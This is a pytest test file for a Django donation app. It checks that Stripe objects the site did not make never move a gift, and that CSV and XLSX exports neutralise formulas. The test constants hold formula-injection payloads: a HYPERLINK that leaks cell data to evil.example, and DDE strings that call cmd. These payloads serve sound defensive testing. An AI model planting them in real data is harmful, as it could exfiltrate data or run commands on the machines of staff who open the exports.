"""Money and trust: only the Stripe objects the site made move a gift; failures are shown.

A Stripe account often serves more than this site (Payment Links, another shop), and
anyone paying through such a link can put our donation's number in its metadata or its
client_reference_id. Those objects are signed by Stripe like ours, so the webhook's
signature proves nothing about who made them.
"""

import csv
import io
import logging
import time
import uuid
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from membership_forms import tasks as export_tasks
from membership_forms.models import Donation, DonationSubscription, Receipt, StripeEvent
from membership_forms.models.audit import ReviewLogEntry, SubmissionLogEntry
from membership_forms.services import donations as donation_services
from membership_forms.services import exports
from membership_forms.tasks import create_checkout_session

from .reviewing import member_of, screen
from .stripe_server import event, sign
from .test_donations import deliver, online_donation, post_event, submit

ADMIN = "/admin/membership-forms/donations/"
LOGGER = "membership_forms.services.stripe_events"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def treasurer(db):
    user = User.objects.create_user("treasurer", password="x" * 12)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["access_admin", "view_donation"])
    )
    staff = Client()
    staff.force_login(user)
    return staff


def needing_attention(staff) -> str:
    response = staff.get(ADMIN + "?needs_attention=true")
    assert response.status_code == 200
    return response.content.decode()


def assert_untouched(donation, status="pending"):
    donation.refresh_from_db()
    assert donation.status == status
    assert not Receipt.objects.filter(donation=donation).exists()


# --- Checkout Sessions ----------------------------------------------------------------------


def test_a_checkout_session_the_site_did_not_make_never_pays_a_gift(
    form_pages, stripe_api, api, client, treasurer, caplog
):
    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="5000.00")
    other = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="20.00")
    # 1 USD paid through a Payment Link of the same account, naming the 5,000 USD gift in
    # its metadata and client_reference_id.
    stripe_api.vars.update(donation_id=str(donation.pk), amount="100")
    stripe_api.route("GET", "/v1/checkout/sessions/cs_link_1", "checkout_session_paid")
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        stored = deliver(client, "evt_link", "checkout.session.completed", "cs_link_1", "x")

    assert stored.status == "ignored"
    assert_untouched(donation)
    assert donation.payment_intent_id is None
    assert "cs_link_1" in donation.payment_issue
    assert "cs_link_1" in caplog.text
    listing = needing_attention(treasurer)
    assert donation.submission.reference in listing
    assert other.submission.reference not in listing


@pytest.mark.parametrize(
    ("frequency", "fixture", "changes"),
    [
        ("one_time", "checkout_session_paid", {"amount": "100"}),
        ("one_time", "checkout_session_paid", {"currency": "eur"}),
        ("one_time", "checkout_session_subscription_paid", {}),
        ("monthly", "checkout_session_paid", {}),
    ],
    ids=["amount", "currency", "subscription-for-one-off", "payment-for-monthly"],
)
def test_the_sites_own_session_with_another_amount_currency_or_mode_is_flagged(
    form_pages, stripe_api, api, client, treasurer, frequency, fixture, changes
):
    donation = online_donation(
        api, form_pages["donation"]["en"], stripe_api, amount="5000.00", frequency=frequency
    )
    stripe_api.vars.update(changes)
    session = donation.checkout_session_id
    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", fixture)
    deliver(client, "evt_cs", "checkout.session.completed", session, "checkout.session")

    assert_untouched(donation)
    assert session in donation.payment_issue
    assert donation.submission.reference in needing_attention(treasurer)
    if donation.subscription_id:
        assert DonationSubscription.objects.get().stripe_subscription_id is None


# --- Payment intents and charges ------------------------------------------------------------


def test_a_payment_intent_the_site_did_not_make_never_moves_a_gift(
    form_pages, stripe_api, api, client, treasurer
):
    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="5.00")
    session = donation.checkout_session_id
    # The gift's own session is open, its own payment intent is pi_test_<pk>.
    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_attempted")
    for event_type, fixture in [
        ("payment_intent.payment_failed", "payment_intent_failed"),
        ("payment_intent.succeeded", "payment_intent_succeeded"),
    ]:
        stripe_api.route("GET", "/v1/payment_intents/pi_other", fixture)
        deliver(client, f"evt_{fixture}", event_type, "pi_other", "payment_intent")

    assert_untouched(donation)
    assert donation.payment_intent_id is None
    assert "pi_other" in donation.payment_issue
    assert donation.submission.reference in needing_attention(treasurer)


def test_the_sites_own_payment_intent_with_another_amount_is_flagged(
    form_pages, stripe_api, api, client
):
    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="5000.00")
    session = donation.checkout_session_id
    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_attempted")
    pi = f"pi_test_{donation.pk}"
    stripe_api.vars["amount"] = "100"
    stripe_api.route("GET", f"/v1/payment_intents/{pi}", "payment_intent_succeeded")
    deliver(client, "evt_pi", "payment_intent.succeeded", pi, "payment_intent")

    assert_untouched(donation)
    assert pi in donation.payment_issue


def test_a_payment_intent_before_its_session_event_still_pays_the_gift(
    form_pages, stripe_api, api, client
):
    donation = online_donation(api, form_pages["donation"]["en"], stripe_api)
    session = donation.checkout_session_id
    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_paid")
    pi = f"pi_test_{donation.pk}"
    stripe_api.route("GET", f"/v1/payment_intents/{pi}", "payment_intent_succeeded")
    deliver(client, "evt_pi", "payment_intent.succeeded", pi, "payment_intent")
    donation.refresh_from_db()
    assert donation.status == "paid" and donation.payment_intent_id == pi
    assert donation.payment_issue == ""
    assert Receipt.objects.filter(donation=donation).count() == 1


def test_a_refund_of_a_charge_the_site_did_not_make_changes_nothing(
    form_pages, stripe_api, api, client
):
    donation = online_donation(api, form_pages["donation"]["en"], stripe_api)
    session = donation.checkout_session_id
    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_paid")
    deliver(client, "evt_paid", "checkout.session.completed", session, "checkout.session")
    # Another payment (pi_other) whose metadata names the gift is refunded.
    stripe_api.route("GET", "/v1/charges/ch_other", "charge_refunded_other")
    stripe_api.route("GET", "/v1/payment_intents/pi_other", "payment_intent_succeeded")
    deliver(client, "evt_refund", "charge.refunded", "ch_other", "charge")

    donation.refresh_from_db()
    assert donation.status == "paid"
    assert "pi_other" in donation.payment_issue


# --- Monthly gifts --------------------------------------------------------------------------


def test_a_subscription_the_site_did_not_make_never_pays_or_cancels_a_monthly_gift(
    form_pages, stripe_api, api, client, treasurer
):
    donation = online_donation(
        api, form_pages["donation"]["en"], stripe_api, amount="5000.00", frequency="monthly"
    )
    session = donation.checkout_session_id
    # The gift's own session made sub_test_<pk>; sub_other names the gift in its metadata.
    stripe_api.route(
        "GET", f"/v1/checkout/sessions/{session}", "checkout_session_subscription_paid"
    )
    stripe_api.route("GET", "/v1/subscriptions/sub_other", "subscription_active")
    stripe_api.route("GET", "/v1/invoices/in_other", "invoice_paid_other")
    deliver(client, "evt_in_other", "invoice.paid", "in_other", "invoice")
    stripe_api.route("GET", "/v1/subscriptions/sub_other", "subscription_canceled")
    deliver(client, "evt_sub_other", "customer.subscription.deleted", "sub_other", "x")

    assert_untouched(donation)
    subscription = DonationSubscription.objects.get()
    assert subscription.stripe_subscription_id is None and subscription.status == "pending"
    assert "sub_other" in donation.payment_issue
    assert Donation.objects.count() == 1
    assert donation.submission.reference in needing_attention(treasurer)

    # The gift's own subscription still goes through.
    deliver(client, "evt_cs", "checkout.session.completed", session, "checkout.session")
    donation.refresh_from_db()
    assert donation.status == "paid"
    subscription.refresh_from_db()
    assert subscription.stripe_subscription_id == f"sub_test_{donation.pk}"


def test_an_invoice_of_the_sites_subscription_with_another_amount_is_flagged(
    form_pages, stripe_api, api, client
):
    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, frequency="monthly")
    session = donation.checkout_session_id
    stripe_api.route(
        "GET", f"/v1/checkout/sessions/{session}", "checkout_session_subscription_paid"
    )
    deliver(client, "evt_cs", "checkout.session.completed", session, "checkout.session")
    stripe_api.vars["amount"] = "100"
    stripe_api.route("GET", "/v1/invoices/in_test_second", "invoice_paid")
    deliver(client, "evt_in2", "invoice.paid", "in_test_second", "invoice")

    second = Donation.objects.get(invoice_id="in_test_second")
    assert_untouched(second)
    assert "in_test_second" in second.payment_issue
    assert Receipt.objects.count() == 1  # the first month's only


# --- Stripe redelivering an event -----------------------------------------------------------
# (through the real worker: tests/membership_forms/test_donations_worker.py)


# --- Webhook bodies and signatures ----------------------------------------------------------


@pytest.mark.parametrize("body", ["[]", '"x"', "1", "null", '{"id": 1, "type": []}'])
def test_signed_bodies_that_are_not_stripe_events_are_refused(db, stripe_api, client, body):
    assert post_event(client, body).status_code == 400
    assert StripeEvent.objects.count() == 0


def test_signatures_dated_in_the_future_are_refused(db, stripe_api, client):
    body = event("evt_future", "checkout.session.completed", "cs_x", "checkout.session")
    ahead = sign(body, timestamp=int(time.time()) + 3600)
    assert post_event(client, body, ahead).status_code == 400
    assert StripeEvent.objects.count() == 0
    # A clock a little ahead of ours is within the tolerance.
    assert post_event(client, body, sign(body, timestamp=int(time.time()) + 30)).status_code == 200


# --- A payment page that could not be made --------------------------------------------------


def failed_checkout(api, page, stripe_api) -> Donation:
    stripe_api.route("POST", "/v1/checkout/sessions", (500, "error_500"))
    response = submit(api, page)
    assert response.status_code == 202
    donation = Donation.objects.get(submission__reference=response.json()["reference"])
    result = create_checkout_session.apply(args=(donation.pk,))
    assert result.failed()  # the task gave up after its retries
    donation.refresh_from_db()
    return donation


def test_a_checkout_that_could_not_be_made_is_shown_to_the_donor_staff_and_api(
    form_pages, stripe_api, api, treasurer
):
    page = form_pages["donation"]["en"]
    donation = failed_checkout(api, page, stripe_api)
    assert len(stripe_api.calls("POST", "/v1/checkout/sessions")) == 5

    status = api.get(f"/api/v3/forms/donations/{donation.token}/").json()
    assert status["status"] == "pending"
    assert status["checkout_failed"] is True and status["payment_url"] is None
    assert "IBAN NL00 DEMO" in status["pledge_instructions"]  # the way to give offline

    html = Client().get(page.donation_url(donation)).content.decode()
    assert "Your payment could not be started" in html
    assert "No money was taken" in html
    assert 'http-equiv="refresh"' not in html
    assert "Try again" in html and 'method="post"' in html
    assert "IBAN NL00 DEMO" in html and donation.submission.reference in html

    assert donation.submission.reference in needing_attention(treasurer)


def test_a_checkout_stripe_refuses_is_given_up_at_once(form_pages, stripe_api, api):
    """A 400 is not mended by retrying (Stripe would answer the same): no five attempts."""
    stripe_api.route("POST", "/v1/checkout/sessions", (400, "error_400"))
    response = submit(api, form_pages["donation"]["en"])
    donation = Donation.objects.get(submission__reference=response.json()["reference"])
    assert create_checkout_session.apply(args=(donation.pk,)).failed()
    assert len(stripe_api.calls("POST", "/v1/checkout/sessions")) == 1
    donation.refresh_from_db()
    assert donation.checkout_failed and "Invalid currency" in donation.checkout_error


def test_a_checkout_whose_task_was_lost_is_marked_failed_by_reconciliation(
    form_pages, stripe_api, api, treasurer
):
    page = form_pages["donation"]["en"]
    response = submit(api, page)  # its task never runs: the broker lost it
    donation = Donation.objects.get(submission__reference=response.json()["reference"])
    recent = submit(api, page, donor_email="recent@example.org")
    an_hour_ago = timezone.now() - timedelta(hours=1)
    Donation.objects.filter(pk=donation.pk).update(created_at=an_hour_ago, updated_at=an_hour_ago)
    donation_services.reconcile_donations()
    donation_services.reconcile_donations()  # a rerun is harmless
    donation.refresh_from_db()
    assert donation.checkout_failed
    assert stripe_api.calls() == []
    status = api.get(f"/api/v3/forms/donations/{donation.token}/").json()
    assert status["checkout_failed"] is True
    fresh = Donation.objects.get(submission__reference=recent.json()["reference"])
    assert not fresh.checkout_failed
    listing = needing_attention(treasurer)
    assert donation.submission.reference in listing
    assert fresh.submission.reference not in listing


def test_the_donors_page_is_never_served_from_the_page_cache(form_pages, stripe_api, api):
    page = form_pages["donation"]["en"]
    stripe_api.route("POST", "/v1/checkout/sessions", (500, "error_500"))
    response = submit(api, page)
    donation = Donation.objects.get(submission__reference=response.json()["reference"])
    visitor = Client()
    first = visitor.get(page.donation_url(donation))
    assert "Preparing the secure payment page" in first.content.decode()
    create_checkout_session.apply(args=(donation.pk,))
    second = visitor.get(page.donation_url(donation))
    assert second.get("X-Page-Cache") != "hit"
    assert "Your payment could not be started" in second.content.decode()


# --- Spreadsheet exports --------------------------------------------------------------------


def rows_of(response, fmt: str) -> list[list]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_donations_export_makes_formulas_inert_and_keeps_amounts_numbers(
    form_pages, no_stripe, api, treasurer, fmt
):
    page = form_pages["donation"]["en"]
    assert submit(api, page, donor_name=FORMULA, dedication=DDE).status_code == 202
    assert submit(api, page, donor_name="-2+3+cmd|' /C calc'!A0").status_code == 202
    minus = Donation.objects.order_by("pk").last()
    Donation.objects.filter(pk=minus.pk).update(amount="-5.00")  # a refund-like correction

    header, *rows = rows_of(treasurer.get(f"{ADMIN}?export={fmt}"), fmt)
    by_name = {row[header.index("Donor name")]: row for row in rows}
    assert set(by_name) == {"'" + FORMULA, "'-2+3+cmd|' /C calc'!A0"}
    assert by_name["'" + FORMULA][header.index("Dedication")] == "'" + DDE
    amounts = sorted(row[header.index("Amount")] for row in rows)
    if fmt == "csv":
        assert amounts == ["-5.00", "50.00"]
    else:
        assert amounts == [-5, 50]  # numbers, not text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_review_queue_export_makes_formulas_inert_and_keeps_amounts_numbers(
    form_pages, no_stripe, api, client, fmt
):
    page = form_pages["donation"]["en"]
    # Above the page's review threshold (5,000): a person confirms it.
    response = submit(api, page, donor_name=DDE, amount="6000.00")
    assert response.status_code == 202
    submission = Donation.objects.get().submission
    assert screen(submission, "needs_review", ("AMOUNT_REVIEW",))
    secretariat = member_of("Secretariat", "sec")
    export = exports.request_export(secretariat, "donation", fmt)
    export_tasks.build_export(export.pk)
    client.force_login(secretariat)
    header, row = rows_of(client.get(f"/admin/membership-forms/exports/{export.pk}/"), fmt)
    cells = dict(zip(header, row, strict=True))
    assert cells["donor_name"] == "'" + DDE
    assert cells["amount"] == ("6000.00" if fmt == "csv" else 6000)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_look_at_a_donor_in_the_admin_is_audited(form_pages, no_stripe, api, treasurer, fmt):
    page = form_pages["donation"]["en"]
    assert submit(api, page).status_code == 202
    donation = Donation.objects.get()

    def entries(action):
        return SubmissionLogEntry.objects.filter(
            object_id=str(donation.submission_id), action=f"membership_forms.submission.{action}"
        )

    assert treasurer.get(f"{ADMIN}inspect/{donation.pk}/").status_code == 200
    assert treasurer.get(f"{ADMIN}?export={fmt}").status_code == 200
    viewed, exported = entries("view").get(), entries("export").get()
    assert viewed.user.username == exported.user.username == "treasurer"
    assert exported.data == {"donation": donation.pk, "format": fmt}


def copies_of_the_gift(count: int) -> None:
    """`count` more gifts like the one made through the form (rows copied, not posted:
    thirty posts would meet the rate limit), half of them waiting in the review queue."""
    original = Donation.objects.get()
    for number in range(count):
        submission = original.submission
        submission.pk, submission.reference, submission.idempotency_key = None, f"C{number}", None
        if number % 2:  # a gift above the form's review threshold waits for a person
            submission.payload = {**submission.payload, "amount": "6000.00"}
        submission._state.adding = True
        submission.save()
        copy = Donation.objects.get(pk=original.pk)
        copy.pk, copy.submission, copy.token = None, submission, uuid.uuid4()
        copy._state.adding = True
        copy.save()
        if number % 2:
            assert screen(submission, "needs_review", ("AMOUNT_REVIEW",))
        original = Donation.objects.get(pk=original.pk)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_donations_export_reads_a_bounded_number_of_queries(
    form_pages, no_stripe, api, treasurer, fmt, django_assert_max_num_queries
):
    """Thirty gifts, each exported and audited, without a query per gift."""
    assert submit(api, form_pages["donation"]["en"]).status_code == 202
    copies_of_the_gift(29)
    with django_assert_max_num_queries(20):
        response = treasurer.get(f"{ADMIN}?export={fmt}")
        content = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        rows = list(load_workbook(io.BytesIO(content)).active.values)
    assert len(rows) == 31 and all(row[0] for row in rows[1:])  # each gift's reference
    audited = SubmissionLogEntry.objects.filter(action="membership_forms.submission.export")
    in_queue = ReviewLogEntry.objects.filter(action="membership_forms.review.export")
    assert audited.count() + in_queue.count() == 30 and in_queue.count() == 14
    assert set(in_queue.values_list("queue", flat=True)) == {"donation"}
    assert {entry.user.username for entry in [*audited, *in_queue]} == {"treasurer"}
